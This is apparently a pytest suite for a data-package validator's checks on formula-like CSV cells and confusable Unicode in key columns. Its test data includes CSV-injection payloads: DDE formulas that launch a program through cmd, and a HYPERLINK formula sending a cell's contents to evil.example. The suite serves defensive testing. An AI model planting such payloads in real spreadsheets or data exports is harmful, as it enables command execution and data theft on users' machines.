"""Cells that are not what they seem: formulas to a spreadsheet, characters that cannot be told by sight."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result

from dpkit.checks.example import claimed, package

Run = Callable[..., Result]
Write = Callable[..., Path]

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Omsk")',
    "= 5",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+A1",
    "-$B$2*7",
    "-2+3",
    "+SUM(A1:A9)",
    "@SUM(1)",
    '+"a"&"b"',
    "\t=1+1",
    "\r=1+1",
    "\n\t@SUM(1)",
    "=1+1\nsecond line",
)
TEXTS = (
    "-",
    "--",
    "---",
    "=",
    "====",
    "=) thanks",
    "=> see below",
    "=?",
    "=]",
    "= / =",
    "+",
    "@",
    "-5",
    "+5.20",
    "-1,000",
    "-12.5e3",
    "+7 4212 32-02-01",
    "+7 (4212) 32-02-01",
    "-5/3",
    "2001-07-26",
    "- said the album",
    "-said he (in Omsk)",
    "-stan",
    "@kremlin",
    "@kremlin (Moscow)",
    "a=1+1",
    " =1+1",
    "'=1+1",
    "\u22125",
    "-Rock & Roll",
    "\tindented",
)


def found(run: Run, folder: Path) -> list[dict[str, Any]]:
    findings: list[dict[str, Any]] = json.loads(run("validate", folder, "--format", "json").stdout)["findings"]
    return findings


def quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula(cell: str, write: Write, run: Run) -> None:
    (finding,) = found(run, write(package(events=(f"place\n{quoted(cell)}\n", ["place"]))))
    assert (finding["check"], finding["severity"], finding["value"]) == ("formula-like", "warning", cell)


def test_what_is_no_formula(write: Write, run: Run) -> None:
    table = "place\n" + "".join(f"{quoted(cell)}\n" for cell in TEXTS)
    assert found(run, write(package(events=(table, ["place"])))) == []


def test_what_is_valid_in_a_field_of_another_type_is_no_formula(write: Write, run: Run) -> None:
    schema = {"fields": [{"name": "km", "type": "number"}, {"name": "on", "type": "date"}]}
    assert found(run, write(package(events=("km,on\n-5,2001-01-01\n+5e3,2001-01-02\n", schema)))) == []


def test_missing_value_is_no_formula(write: Write, run: Run) -> None:
    schema = {"fields": [{"name": "place"}], "missingValues": ["", "=NA()"]}
    assert found(run, write(package(events=("place\n=NA()\n", schema)))) == []


def test_each_column_with_formulas_has_an_example(write: Write, run: Run) -> None:
    table = "a,b\n" + "=1,x\n" * 50 + "y,=2\n"
    folder = write(package(events=(table, ["a", "b"])))
    assert {each["column"] for each in found(run, folder)} == {"A", "B"}
    assert "warning  formula-like in events: 51\n" in run("validate", folder).stdout


KEYED = {"fields": [{"name": "id"}, {"name": "title"}], "primaryKey": ["id"]}
UNSEEN = {
    "a\u200bb": "U+200B ZERO WIDTH SPACE",
    "a\u202eb": "U+202E RIGHT-TO-LEFT OVERRIDE",
    "a\u2066b": "U+2066 LEFT-TO-RIGHT ISOLATE",
    "a\u00adb": "U+00AD SOFT HYPHEN",
    "\ufeffab": "U+FEFF ZERO WIDTH NO-BREAK SPACE",
    "a\u00a0b": "U+00A0 NO-BREAK SPACE",
    "a\x1b[31m": "U+001B",
    "a\x7f": "U+007F",
    "a\nb": "U+000A",
    "S\u00e3o\u200bPaulo": "U+200B ZERO WIDTH SPACE",
}
MIXED = {
    "\u043emsk": "U+043E CYRILLIC SMALL LETTER O",
    "\u0391BC": "U+0391 GREEK CAPITAL LETTER ALPHA",
    "M\u043e\u0441\u043a\u0432\u0430": "U+004D LATIN CAPITAL LETTER M",
    "caf\u00e9-\u043ed": "U+043E CYRILLIC SMALL LETTER O",
}


@pytest.mark.parametrize(("cell", "told"), UNSEEN.items())
def test_key_with_a_character_that_is_not_seen(cell: str, told: str, write: Write, run: Run) -> None:
    (finding,) = found(run, write(package(events=(f"id,title\n{quoted(cell)},x\n", KEYED))))
    assert (finding["check"], finding["severity"], finding["value"]) == ("confusable-key", "warning", cell)
    assert finding["message"].endswith(f", which holds {told}")


@pytest.mark.parametrize(("cell", "told"), MIXED.items())
def test_key_of_several_scripts(cell: str, told: str, write: Write, run: Run) -> None:
    (finding,) = found(run, write(package(events=(f"id,title\n{cell},x\n", KEYED))))
    assert finding["message"] == f"id is '{cell}', a word of several scripts: it holds {told}"


@pytest.mark.parametrize("cell", ["Москва", "김정일", "Khasán", "kΩ", "μm", "東京-tokyo", "a b", "naïve", "Ωmega-3"])
def test_sound_key(cell: str, write: Write, run: Run) -> None:
    assert found(run, write(package(events=(f"id,title\n{cell},x\n", KEYED)))) == []


@pytest.mark.parametrize("cell", [" a", "a ", "a b  "])
def test_key_with_a_blank_at_its_beginning_or_end(cell: str, write: Write, run: Run) -> None:
    (finding,) = found(run, write(package(events=(f"id,title\n{cell},x\n", KEYED))))
    assert (finding["check"], finding["severity"], finding["value"]) == ("confusable-key", "warning", cell)
    assert finding["message"] == f"id is '{cell}', with a blank at its beginning or end"


CITIES = {"fields": [{"name": "id"}, {"name": "city"}], "primaryKey": ["id", "city"]}
COMPOSED = ["Khas\u00e1n", "Khasa\u0301n"]


@pytest.mark.parametrize("cells", [COMPOSED, COMPOSED[::-1], [*COMPOSED, "a", *COMPOSED]])
def test_key_that_is_another_but_for_how_its_letters_are_composed(cells: list[str], write: Write, run: Run) -> None:
    rows = "".join(f"{number},{cell}\n" for number, cell in enumerate(cells))
    told = found(run, write(package(events=(f"id,city\n{rows}", CITIES))))
    assert [each["value"] for each in told] == [COMPOSED[1]] * cells.count(COMPOSED[1])
    reason = "which looks like another of its cells: it holds U+0301 COMBINING ACUTE ACCENT"
    assert {each["message"] for each in told} == {f"city is '{COMPOSED[1]}', {reason}"}


def test_keys_that_are_all_composed_alike(write: Write, run: Run) -> None:
    assert found(run, write(package(events=("id,city\n1,Khasa\u0301n\n2,Orle\u0301ans\n", CITIES)))) == []


def test_subject_that_is_another_by_a_blank(write: Write, run: Run) -> None:
    told = found(run, write(claimed("v,album,2001-07-26,,,", "v ,tass,2001-07-27,,,")))
    assert [(each["check"], each["field"], each["value"]) for each in told] == [("confusable-key", "visit_id", "v ")]


def test_cell_that_is_no_key_may_hold_them(write: Write, run: Run) -> None:
    assert found(run, write(package(events=('id,title\na,"x\u200by \u043emsk"\n', KEYED)))) == []


@pytest.mark.parametrize("kind", ["unique", "uniqueKeys", "foreignKeys"])
def test_keys_of_all_kinds(kind: str, write: Write, run: Run) -> None:
    field = {"name": "id"} | ({"constraints": {"unique": True}} if kind == "unique" else {})
    key = {
        "uniqueKeys": [["id"]],
        "foreignKeys": [{"fields": "id", "reference": {"resource": "places", "fields": "id"}}],
    }
    schema = {"fields": [field]} | ({kind: key[kind]} if kind in key else {})
    cell, where = "a\u200bb", {"events", "places"} if kind == "foreignKeys" else {"events"}
    folder = write(package(None, events=(f"id\n{cell}\n", schema), places=(f"id\n{cell}\n", ["id"])))
    told = found(run, folder)
    assert [each["check"] for each in told] == ["confusable-key"] * len(where)
    assert {each["resource"] for each in told} == where
